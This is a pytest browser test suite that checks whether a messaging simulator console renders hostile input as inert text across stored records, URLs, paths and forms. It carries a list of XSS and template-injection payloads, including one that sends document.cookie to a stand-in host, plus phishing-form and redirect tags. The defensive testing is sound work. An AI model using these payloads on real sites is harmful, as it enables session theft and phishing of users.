"""What others have written is shown and never run: attacks in every field that is stored, asked for or typed."""

import json
from datetime import UTC, datetime
from html import escape
from pathlib import Path
from urllib.parse import parse_qsl, quote, urlsplit

import pytest
import yaml

from simulator.lab import Lab
from simulator.ledger.carrier import CarrierLedger, Message
from simulator.ledger.pbx import PbxLedger
from tests.console.browser.stage import MENU, add_channel, console_lab, shown
from tests.console.browser.window import Window

NAUGHTY = yaml.safe_load((Path(__file__).parents[3] / "contracts" / "cases" / "naughty.yaml").read_text())
ATTACKS = (
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "</textarea></title></style><script>alert(3)</script>",
    '"><script>alert(5)</script>',
    "'><img src=x onerror=alert(6)>",
    "<img src=x onerror='fetch(\"//192.0.2.7/\"+document.cookie)'>",
    "<svg onload=alert(7)></svg>",
    "<svg><animate onbegin=alert(8) attributeName=x dur=1s></svg>",
    "<svg><script>alert(9)</script></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(10)&gt;">',
    "<details open ontoggle=alert(11)>",
    "<input autofocus onfocus=alert(12)>",
    "<iframe srcdoc='<script>parent.alert(13)</script>'></iframe>",
    "<iframe src=javascript:alert(14)></iframe>",
    "<body onload=alert(15)>",
    "<video><source onerror=alert(16)></video>",
    "<link rel=stylesheet href=//192.0.2.7/x.css>",
    "<style>@import '//192.0.2.7/x.css';*{display:none}</style>",
    "<base href=//192.0.2.7/>",
    "<meta http-equiv=refresh content='0;url=//192.0.2.7/'>",
    "<form action=//192.0.2.7/><button>Log in again</button></form>",
    '" autofocus onfocus=alert(17) x="',
    "' onmouseover=alert(18) x='",
    "javascript:alert(19)",
    " JaVaScRiPt:alert(20)//",
    "data:text/html,<script>alert(21)</script>",
    "//192.0.2.7/",
    "{{ 7 * 7 }}{% raw %}${alert(22)}<%= 7 * 7 %>#{7*7}",
    "{{ config.items() }}{{ ''.__class__.__mro__ }}",
    "&lt;script&gt;alert(23)&lt;/script&gt;&#x3c;b>",
    "<template><script>alert(24)</script></template>",
    "\u202eevitcejbo\u202c \u2066bidi\u2069 \u200f<script>alert(25)</script>",
    "--><script>alert(4)</script><!--",
)  # fmt: skip
EVERYTHING = " ".join(ATTACKS)
QUERY = ("q", "to", "code", "outcome", "run", "room", "before", "kind", "text", "from", "channel", "name", "attempt",
         "sent", "number", "redact", "have", "state", "format")  # fmt: skip
ALIKE = 3  # pages that differ only in what is shown; each message is looked at
SKIPPED = ("/export", "/runs/reports/", "/ledger/balance")

STRANGE = """() => [
  ...[...document.querySelectorAll("[href], [src], [action], [formaction]")].filter(element =>
    ["href", "src", "action", "formaction"].some(name =>
      element.hasAttribute(name) && new URL(element.getAttribute(name), location).origin !== location.origin)),
  ...document.querySelectorAll("script:not([src^='/static/console.js']), iframe, base, style, meta[http-equiv]"),
  ...[...document.querySelectorAll("*")].filter(element =>
    [...element.attributes].some(({ name }) => name.startsWith("on") || name === "style" || name === "srcdoc")),
].map(element => element.outerHTML.slice(0, 200))"""
LINKS = """() => [...document.links].map(link => link.pathname + link.search)"""
# The places of those forms that have another address or other fields than the ones before them.
FORMS = """() => {
  const kinds = [...document.forms].map(form => form.action + [...form.elements].map(field => field.name));
  return kinds.flatMap((kind, place) => kinds.indexOf(kind) === place ? [place] : []);
}"""
FILL = """(form, [attack, everything]) => {
  for (const field of form.elements) {
    if (field.name === "csrf_token" || !["INPUT", "TEXTAREA", "SELECT"].includes(field.nodeName)) continue;
    if (field.nodeName === "SELECT") field.add(new Option(attack, attack, true, true));
    else if (field.nodeName === "TEXTAREA") field.value = everything;
    else { field.type = "text"; field.value = attack; }
  }
  form.noValidate = true;
}"""


def stored(lab: Lab) -> dict[int, str]:
    """Each attack in every field of a message, on every side of its life; the texts by the number of their attempt."""
    found, now = {}, datetime.now(UTC)
    at, moment = now.timestamp(), now.isoformat()
    with (
        PbxLedger(lab.pbx_ledger) as pbx,
        CarrierLedger(lab.carrier_ledger) as carrier,
        lab.gateway_log.open("a") as log,
    ):
        for count, attack in enumerate([*ATTACKS, "\n".join(NAUGHTY)], 1):
            order, status = f"{attack} {count}", 200 if count % 3 else 400
            number = pbx.open(f"{attack}/{attack}", attack, attack, attack, at)
            request = {"method": attack, "url": attack, "headers": {attack: attack}, "body": attack}
            response = {"status": status, "headers": {attack: attack}, "body": attack}
            exchange = {"request": request, "response": response, "failure": attack, "seconds": 0.1}
            exchange["event"] = {"delivery_status": 2, "send_error": attack, "send_error_msg": attack}
            pbx.close(number, at, status=status, code=attack, order_id=order, exchange=exchange)
            events = ({"event": attack, "reason": attack, "carrier": attack}, {"event": "receipt", "status": attack})
            log.writelines(json.dumps({"order": order, **event, "at": moment}) + "\n" for event in events)
            taken = carrier.take([Message(order, attack, attack, attack, attack, 1)], at, 1e9)
            carrier.note_receipt(attack, taken[0].delivery.id, attack, at, 204)
            found[number] = attack
    for count, attack in enumerate(ATTACKS[::8]):
        add_channel(lab, f"attack-{count}", attack)
    (lab.directory / "contract.html").write_text(f"<title>{escape(ATTACKS[0])}</title>{EVERYTHING}")
    shown(lab, len(found), "tried")
    return found


@pytest.fixture(scope="module")
def hostile(browser, tmp_path_factory):
    """A lab of its own, full of attacks, and what they are."""
    del browser
    with console_lab(tmp_path_factory.mktemp("hostile")) as lab:
        yield lab, stored(lab)


@pytest.fixture(scope="module")
def window(browser, hostile):
    """A visitor of it."""
    opened = Window(browser, hostile[0].console_url)
    yield opened
    opened.close()


@pytest.fixture
def page(window):
    """A visit; what the console refuses is no complaint."""
    yield window.enter(forgive="the server responded with a status of 4")
    assert window.leave() == []


def test_the_attacks_are_real(window):
    """On a page that puts them into its markup without a policy, most of them do their work."""
    page = window.enter()
    for attack in ATTACKS:
        page.set_content(f"<title>{attack}</title><p>{attack}</p><input value='{attack}'>")
    page.wait_for_timeout(50)

    assert len({complaint for complaint in window.leave() if complaint.startswith(("dialog", "request"))}) >= 12


def test_every_page_shows_attacks_as_text(hostile, page):
    """From the timeline to every page it leads to: nothing runs, nothing leads away, and every text stands as it is."""
    texts = hostile[1]
    unread, seen, alike = ["/?room=*", *MENU.values()], set(), {}
    while unread:
        path = unread.pop(0)
        parts = urlsplit(path)
        number = parts.path.removeprefix("/messages/")
        shape = (*parts.path.split("/")[:3], *(name for name, _ in parse_qsl(parts.query) if name != "before"))
        alike[shape] = alike.get(shape, 0) + 1
        if path in seen or alike[shape] > ALIKE or parts.path.startswith(SKIPPED) or "/snippet." in parts.path:
            continue
        seen.add(path)
        page.goto(path, wait_until="domcontentloaded")
        assert page.evaluate(STRANGE) == [], path
        unread += page.evaluate(LINKS)
        if number.isdecimal():
            assert page.locator(".said").text_content() == as_parsed(texts[int(number)])

    assert {f"/messages/{number}" for number in texts} <= seen


def as_parsed(text: str) -> str:
    """What a browser makes of the ends of lines in what it parses."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


@pytest.mark.parametrize("path", [*MENU.values(), "/timeline/rows", "/login"])
def test_no_address_is_an_attack(path, page):
    """Attacks in the parameters of an address, known or not, are text or a refusal."""
    for turn in range(0, len(ATTACKS), 11):
        attacks = [*ATTACKS[turn:], *ATTACKS[:turn]]
        page.goto(
            f"{path}?" + "&".join(f"{name}={quote(attack)}" for name, attack in zip(QUERY, attacks, strict=False))
        )
        assert page.evaluate(STRANGE) == [], attacks


@pytest.mark.parametrize("place", ["/orders/", "/messages/", "/export.", "/", "/?q=", "/?run="])
def test_no_path_is_an_attack(place, page):
    """An attack as the name of an order, of a page or of a run is a text on a page."""
    for attack in (*ATTACKS[::16], EVERYTHING):
        page.goto(place + quote(attack, safe=""))
        assert page.evaluate(STRANGE) == [], attack


@pytest.mark.parametrize("path", [*MENU.values(), "/messages/1", f"{MENU['Carrier']}?kind=refuse"])
def test_no_form_is_an_attack(path, page):
    """Each form of each page, every field of it an attack, is a text or a refusal, then and afterwards."""
    page.goto(path)
    for number in page.evaluate(FORMS):
        page.goto(path)
        form = page.locator("form").nth(number)
        form.evaluate(FILL, [ATTACKS[number % len(ATTACKS)], EVERYTHING])
        with page.expect_navigation():
            form.evaluate("form => form.requestSubmit(form.querySelector('button'))")
        assert page.evaluate(STRANGE) == []
    page.goto(path)
    assert page.evaluate(STRANGE) == []


def test_a_live_row_is_text_too(hostile, page):
    """What arrives while the page is open is put into it as text."""
    lab, _ = hostile
    page.goto("/?room=*")
    with PbxLedger(lab.pbx_ledger) as pbx:
        for number, attack in enumerate(ATTACKS):
            pbx.open("live", "+1", f"live {number}", attack, datetime.now(UTC).timestamp())

    page.get_by_text(f"live {len(ATTACKS) - 1}").wait_for()

    assert page.evaluate(STRANGE) == []
    assert page.locator("tbody tr .text").all_text_contents()[: len(ATTACKS)] == list(reversed(ATTACKS))


def test_a_report_is_locked_up(window):
    """A report that is an attack is shown as the page it is, and can do nothing."""
    page = window.enter()
    page.goto(MENU["Runs"])
    with page.expect_popup() as opened:
        page.get_by_role("link", name=ATTACKS[0], exact=True).click()
    opened.value.wait_for_load_state()

    assert [one for one in window.leave() if one.startswith(("dialog", "request", "exception"))] == []
